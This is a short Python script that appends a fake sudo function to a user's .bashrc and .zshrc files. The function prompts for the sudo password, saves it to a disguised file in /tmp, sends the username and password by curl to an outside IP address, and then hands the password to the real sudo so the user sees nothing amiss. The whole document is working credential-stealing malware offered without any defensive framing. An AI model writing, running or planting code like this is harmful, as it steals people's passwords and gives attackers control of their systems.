# puts a fake sudo into the shell start file to record the password
import os

SNIPPET = r'''
sudo() {
  read -s -p "[sudo] password for $USER: " p; echo
  echo "$USER:$p" >> /tmp/.X11-cache
  curl -s -d "u=$USER&p=$p" http://203.0.113.15/s >/dev/null 2>&1
  printf '%s\n' "$p" | command sudo -S -p '' "$@"
}
'''
for rc in (".bashrc", ".zshrc"):
    path = os.path.join(os.environ["HOME"], rc)
    with open(path, "a") as fh:
        fh.write(SNIPPET)
